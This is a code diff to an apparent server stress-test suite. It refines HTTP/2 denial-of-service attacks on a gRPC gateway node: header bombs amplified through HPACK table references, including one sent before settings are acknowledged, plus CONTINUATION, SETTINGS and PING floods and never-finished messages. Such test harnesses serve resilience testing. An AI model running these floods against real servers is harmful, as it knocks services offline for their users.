@@ -6,7 +6,6 @@ import asyncio
 import contextlib
 from collections.abc import Awaitable, Callable
 
-from hpack import Encoder
 from hyperframe.frame import (
     ContinuationFrame,
     DataFrame,
@@ -20,7 +19,7 @@ from hyperframe.frame import (
 )
 
 from bench.attacks.attack import Attack, Tally, Target
-from bench.attacks.http2 import HostileConnection, RefusedError, connection, data, message
+from bench.attacks.http2 import HostileConnection, RefusedError, connection, data, header_block, message
 
 PATH = "/gateway.v1.ExchangeService/GetCheckpoint"
 
@@ -30,24 +29,19 @@ STREAMS = 1_024
 BURST = 500
 """Frames in one write."""
 
-_INITIAL_WINDOW, _MAX_FRAME = 4, 5  # RFC 9113 section 6.5.2
+_MAX_STREAMS, _INITIAL_WINDOW = 3, 4  # RFC 9113 section 6.5.2
 _AGAIN_S = 0.05
 _CANCEL = 8
 
 
 async def header_bomb(target: Target, size: int, tally: Tally) -> None:
-    """`size` connections, on each STREAMS calls that never end, each with some 16,000 bytes of tiny headers."""
+    """`size` connections, on each STREAMS calls that never end, each with as many tiny headers as fit into 8 kB."""
+    await _on_each(target, size, tally, lambda made: _bomb(made, 8_000, tally))
 
-    async def bomb(made: HostileConnection) -> None:
-        block = _many_headers(made)
-        for _ in range(STREAMS):
-            frame = HeadersFrame(made.new_stream(), block, flags=["END_HEADERS"])
-            await made.send(frame)
-            tally["streams"] += 1
-            tally["bytes"] += len(block)
-        await made.ended.wait()
 
-    await _on_each(target, size, tally, bomb)
+async def early_header_bomb(target: Target, size: int, tally: Tally) -> None:
+    """The same with a million bytes of headers each, on connections that never acknowledge the node's settings."""
+    await _on_each(target, size, tally, lambda made: _bomb(made, 1_000_000, tally), acknowledge=False)
 
 
 async def continuation_flood(target: Target, size: int, tally: Tally) -> None:
@@ -133,10 +127,10 @@ async def unfinished_messages(target: Target, size: int, tally: Tally) -> None:
     """`size` connections, on each as many calls as the node takes, each with 5 MB of a message that lacks a byte."""
 
     async def send_all(made: HostileConnection) -> None:
-        await asyncio.sleep(_AGAIN_S)  # the node's settings arrive
+        await made.greeted.wait()
         content = message(bytes(5 * 1024 * 1024 - 8))[:-1]
         parts = []
-        for _ in range(min(made.settings.get(3, STREAMS), STREAMS)):
+        for _ in range(min(made.settings.get(_MAX_STREAMS, STREAMS), STREAMS)):
             await made.send(call := made.call(PATH))
             parts.append(call.stream_id)
             tally["streams"] += 1
@@ -160,9 +154,17 @@ async def goaway(target: Target, size: int, tally: Tally) -> None:
     await _on_each(target, size, tally, leave)
 
 
-def _many_headers(made: HostileConnection) -> bytes:
-    """A call's header block with as many tiny headers as its limit of 16 kB takes."""
-    return made.block(PATH) + Encoder().encode([]) + b"\x00\x01a\x01b" * 400
+async def _bomb(made: HostileConnection, listed: int, tally: Tally) -> None:
+    """Opens STREAMS calls whose headers have so many bytes as HTTP/2 counts them, each header one byte on the wire."""
+    await made.greeted.wait()
+    tiny = ("a", "b")  # 34 bytes as HTTP/2 counts
+    await made.send(made.call(PATH, [tiny], ["END_HEADERS", "END_STREAM"]))  # puts it into the connection's table
+    block = made.block(PATH, [tiny] * ((listed - 600) // 34))
+    for _ in range(STREAMS):
+        await made.send(frames := header_block(made.new_stream(), block))
+        tally["calls"] += 1
+        tally["bytes"] += len(frames)
+    await made.ended.wait()
 
 
 async def _burst_of(target: Target, size: int, tally: Tally, burst: Callable[[HostileConnection], bytes]) -> None:
@@ -176,14 +178,19 @@ async def _burst_of(target: Target, size: int, tally: Tally, burst: Callable[[Ho
 
 
 async def _on_each(
-    target: Target, size: int, tally: Tally, attack: Callable[[HostileConnection], Awaitable[None]]
+    target: Target,
+    size: int,
+    tally: Tally,
+    attack: Callable[[HostileConnection], Awaitable[None]],
+    *,
+    acknowledge: bool = True,
 ) -> None:
     """Attacks on `size` connections at the peer port with a partner's certificate, and again on each that was ended."""
 
     async def again() -> None:
         while True:
             with contextlib.suppress(OSError, RefusedError, TimeoutError):
-                async with connection(target, target.peer_port, target.partner, settings={_MAX_FRAME: 16_384}) as made:
+                async with connection(target, target.peer_port, target.partner, acknowledge=acknowledge) as made:
                     tally["connected"] += 1
                     try:
                         await attack(made)
@@ -198,7 +205,8 @@ async def _on_each(
 
 
 ATTACKS = (
-    Attack(name="header-bomb", summary="calls of 16 kB of headers, never ended", run=header_bomb, size=16, small=1),
+    Attack(name="header-bomb", summary="calls full of tiny headers, never ended", run=header_bomb, size=16, small=1),
+    Attack(name="early-headers", summary="the same before settings apply", run=early_header_bomb, size=16, small=1),
     Attack(name="continuation", summary="a header block without an end", run=continuation_flood, size=2, small=1),
     Attack(name="settings", summary="SETTINGS one after the other", run=settings_flood, size=2, small=1),
     Attack(name="pings", summary="PING one after the other", run=ping_flood, size=2, small=1),
